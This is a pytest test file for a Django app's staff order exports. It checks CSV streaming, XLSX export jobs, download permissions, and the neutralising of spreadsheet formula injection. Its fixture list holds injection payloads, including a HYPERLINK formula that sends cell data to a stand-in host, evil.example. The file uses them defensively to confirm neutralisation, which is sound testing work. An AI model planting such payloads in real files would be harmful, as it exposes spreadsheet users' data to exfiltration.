"""Order exports: CSV streamed, XLSX built by a job with a permission-checked download, formulas neutralised."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certification.models import ExportJob, Role
from payments.models import Order

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.fixture
def national(seeded, make_user):
    return make_user(Role.NATIONAL_SECRETARIAT, "中国青少年科技教育工作者协会")


@pytest.fixture
def hostile_orders(open_campaign, make_user, submit):
    orders = []
    for title in HOSTILE:
        _app, order = submit(make_user(), open_campaign)
        Order.objects.filter(pk=order.pk).update(invoice_title=title)
        orders.append(order)
    return orders


def _csv(client, **params):
    response = client.get(reverse("payments:staff_orders"), {"export": "csv", **params})
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_csv_streams_every_order_with_formulas_neutralised(client, national, hostile_orders):
    import csv

    client.force_login(national)
    rows = list(csv.reader(io.StringIO(_csv(client))))
    assert rows[0][:2] == ["订单号", "认证活动"] and len(rows) == 1 + len(HOSTILE)
    title_col = rows[0].index("发票抬头")
    titles = {r[title_col] for r in rows[1:]}
    assert titles == {"'" + t for t in HOSTILE}
    for cell in (c for r in rows[1:] for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The money and dates are plain values, not neutralised text.
    amount_col = rows[0].index("应付金额")
    assert {r[amount_col] for r in rows[1:]} == {"500.00"}


def test_csv_applies_the_filter_and_the_requester_scope(client, national, hostile_orders, jiangsu_secretariat):
    client.force_login(national)
    assert len(_csv(client, status="paid").splitlines()) == 1
    client.force_login(jiangsu_secretariat)
    assert hostile_orders[0].number not in _csv(client)


def test_xlsx_job_writes_text_cells_not_formulas_and_only_its_requester_downloads(
        client, national, hostile_orders, make_user, django_capture_on_commit_callbacks):
    client.force_login(national)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("payments:staff_orders_export"), {"campaign": "", "status": ""})
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("export_job", args=[job.pk])
    assert job.status == ExportJob.Status.DONE and (job.processed_rows, job.total_rows) == (6, 6)
    page = client.get(response["Location"]).content.decode()
    assert "已写入 6 / 6 行" in page and reverse("export_download", args=[job.pk]) in page
    download = client.get(reverse("export_download", args=[job.pk]))
    assert download.status_code == 200 and "no-store" in download["Cache-Control"]
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    header = [c.value for c in sheet[1]]
    titles = {row[header.index("发票抬头")].value for row in sheet.iter_rows(min_row=2)}
    # (An XML reader turns the stored carriage return into a line feed; it stays behind the apostrophe.)
    assert {t.replace("\n", "\r") for t in titles} == {"'" + t for t in HOSTILE}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    # Another staff member, even of the same authority, cannot see or fetch it; nor can an applicant.
    for other in (make_user(Role.NATIONAL_SECRETARIAT, "中国青少年科技教育工作者协会"), hostile_orders[0].applicant):
        client.force_login(other)
        assert client.get(reverse("export_job", args=[job.pk])).status_code in (403, 404)
        assert client.get(reverse("export_download", args=[job.pk])).status_code in (403, 404)


def test_queued_xlsx_job_page_refreshes_and_has_no_download_yet(client, national, hostile_orders):
    client.force_login(national)
    # Without the on-commit callbacks the job waits, as it would for a worker.
    response = client.post(reverse("payments:staff_orders_export"), {"status": "pending"}, follow=True)
    page = response.content.decode()
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.QUEUED and job.params == {"campaign_id": None, "status": "pending"}
    assert '<meta http-equiv="refresh" content="2">' in page and "排队中" in page
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 404


def test_export_pages_refuse_applicants(client, hostile_orders):
    client.force_login(hostile_orders[0].applicant)
    assert client.post(reverse("payments:staff_orders_export")).status_code == 403
    assert client.get(reverse("payments:staff_orders"), {"export": "csv"}).status_code == 403


@pytest.mark.worker
def test_real_celery_worker_builds_the_xlsx_export(transactional_db, tmp_path, settings, make_user):
    import time

    from certification import exports
    from certification.seed import load_seed_campaigns
    from config.celery_app import app
    from tests.workers import celery_worker

    load_seed_campaigns()
    national = make_user(Role.NATIONAL_SECRETARIAT, "中国青少年科技教育工作者协会")
    # Not eager here: the job waits for the worker (the service's own message goes to the in-memory broker).
    eager, app.conf.task_always_eager = app.conf.task_always_eager, False
    try:
        job = exports.export_job_create(kind="payments.orders", params={}, actor=national)
    finally:
        app.conf.task_always_eager = eager
    assert job.status == ExportJob.Status.QUEUED
    with celery_worker(tmp_path, DJANGO_MEDIA_ROOT=str(settings.MEDIA_ROOT)) as (send, worker, log_path):
        send(job.pk, task="certification.tasks.run_export")
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and job.in_progress:
            assert worker.poll() is None, log_path.read_text()
            time.sleep(0.3)
            job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE, (job.failure_message, log_path.read_text())
    assert job.file.name.startswith("exports/") and job.file.open("rb").read(2) == b"PK"
